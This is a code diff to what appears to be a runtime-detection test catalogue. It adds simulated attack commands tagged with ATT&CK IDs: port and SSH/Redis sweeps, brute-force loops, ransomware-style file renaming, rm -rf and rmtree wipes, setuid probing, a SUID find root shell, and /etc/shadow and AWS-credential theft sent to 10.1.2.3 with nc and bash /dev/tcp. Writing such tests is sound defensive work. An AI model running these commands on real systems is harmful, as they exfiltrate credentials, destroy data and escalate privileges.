@@ -444,3 +444,73 @@ _p("masscan dropped and run", "T1046", COPY_RUN.format("masscan"), BOTH, "TeamTN
 _p("scp dropped and run", "T1021.004", COPY_RUN.format("scp"), BOTH, "lateral copies over SSH")
 _p("ncat dropped and run", "T1095", COPY_RUN.format("ncat"), BOTH, "raw TCP relay")
 _p("wipe dropped and run", "T1485", COPY_RUN.format("wipe"), BOTH, "secure deletion")
+
+# -- Behaviour over time (issue 18): bursts and sequences --------------------------------
+_SCAN_PY = ("python3 -c 'import socket\n"
+            "for p in range({0}, {1}):\n"
+            "    s = socket.socket(); s.settimeout(0.3); s.connect_ex((\"{2}\", p)); s.close()'")
+_p("port scan with a bash /dev/tcp loop", "T1046",
+   "bash -c 'for p in $(seq 20 45); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done'; "
+   "true", (DEBIAN,), "bash-only port scan (no tools dropped)")
+_p("port scan with python sockets", "T1046", _SCAN_PY.format(1, 40, "127.0.0.1"), (DEBIAN,),
+   "connect() scanner script")
+_p("ssh sweep of a subnet with nc", "T1046",
+   "for i in $(seq 1 30); do nc -w 1 127.0.0.$i 22 < /dev/null; done; true", (BUSYBOX,),
+   "TeamTNT / Kinsing SSH spreading: hosts with port 22 looked for")
+_p("redis sweep with bash /dev/tcp", "T1046",
+   "bash -c 'for i in $(seq 1 30); do (echo > /dev/tcp/127.0.0.$i/6379) 2>/dev/null; done'; "
+   "true", (DEBIAN,), "Kinsing / TeamTNT looking for open Redis servers")
+_p("ssh password guessing loop", "T1110",
+   "for i in $(seq 1 25); do nc -w 1 127.0.0.1 22 < /dev/null; done; true", (BUSYBOX,),
+   "ATT&CK T1110.001 password guessing against SSH")
+_p("ftp brute force from python", "T1110",
+   "python3 -c 'import socket\nfor i in range(30):\n    s = socket.socket(); "
+   "s.settimeout(0.3); s.connect_ex((\"127.0.0.1\", 21)); s.close()'", (DEBIAN,),
+   "scripted password guessing against FTP")
+_p("files renamed with a mv loop", "T1486",
+   "mkdir -p /home/app/docs && cd /home/app/docs && for i in $(seq 1 60); do echo d > r$i.pdf; "
+   "done && for f in *.pdf; do mv $f $f.locked; done", BOTH,
+   "ransomware renaming encrypted files (extension added)")
+_p("files encrypted and renamed by python", "T1486",
+   "mkdir -p /srv/share && cd /srv/share && python3 -c 'import os\n"
+   "for i in range(70): open(f\"doc{i}.txt\", \"w\").write(\"data\")\n"
+   "for n in os.listdir(\".\"):\n"
+   "    open(n, \"r+\").write(\"XXXX\"); os.rename(n, n + \".enc\")'", (DEBIAN,),
+   "ATT&CK T1486: files overwritten then renamed")
+_p("data directory wiped with rm -rf", "T1485",
+   "mkdir -p /var/lib/appdata && for i in $(seq 1 150); do echo x > /var/lib/appdata/f$i; "
+   "done && rm -rf /var/lib/appdata/*", BOTH, "ATT&CK T1485: data deleted from a volume")
+_p("data wiped by python rmtree", "T1485",
+   "mkdir -p /srv/db && python3 -c 'import shutil, os\n"
+   "[open(f\"/srv/db/t{i}\", \"w\").close() for i in range(150)]\nshutil.rmtree(\"/srv/db\")'",
+   (DEBIAN,), "destruction through an interpreter")
+_p("root probed with repeated setuid calls", "T1068",
+   "setpriv --reuid=1000 --regid=1000 --clear-groups python3 -c 'import os\n"
+   "for i in range(8):\n    try: os.setuid(0)\n    except OSError: pass'", (DEBIAN,),
+   "exploit retrying setuid(0) as a user")
+_p("setresuid retried by a user", "T1068",
+   "for i in $(seq 1 6); do probe as 1000 /usr/local/bin/probe root /bin/true; done; true",
+   BOTH, "privilege probing loop")
+_p("shadow read then sent with nc", "T1041",
+   "cat /etc/shadow > /tmp/s; nc -w 1 10.1.2.3 443 < /tmp/s; true", (BUSYBOX,),
+   "credentials exfiltrated over a raw connection")
+_p("shadow sent through bash /dev/tcp", "T1041",
+   "timeout 3 bash -c 'cat /etc/shadow > /dev/tcp/10.1.2.3/443' 2>/dev/null; true", (DEBIAN,),
+   "exfiltration with bash alone")
+_p("aws credentials read then posted by python", "T1041",
+   "base64 /root/.aws/credentials > /tmp/c; python3 -c 'import socket\n"
+   "s = socket.socket(); s.settimeout(0.5); s.connect_ex((\"10.9.8.7\", 80))'", (DEBIAN,),
+   "TeamTNT cloud credential theft",
+   "mkdir -p /root/.aws && printf '[default]\\naws_access_key_id = AKIA\\n' > "
+   "/root/.aws/credentials")
+_p("setuid find gives a root shell to a user", "T1548.001",
+   "setpriv --reuid=1000 --regid=1000 --clear-groups /usr/bin/find /etc/hostname "
+   "-exec /bin/sh -p -c 'id > /dev/null' \\;", (DEBIAN,), "GTFOBins find (SUID)",
+   "chmod u+s /usr/bin/find")
+_p("setuid copy of a program run by a user", "T1548.001",
+   "probe as 1000 /home/app/rootsh root /bin/true", BOTH,
+   "a setuid-root copy planted for later",
+   "mkdir -p /home/app && cp /usr/local/bin/probe /home/app/rootsh && chmod 4755 /home/app/rootsh")
+_p("recon burst after getting a shell", "T1082",
+   "id; whoami; ps; mount; df; hostname > /dev/null", (DEBIAN,),
+   "what an intruder runs first (linPEAS-style)")
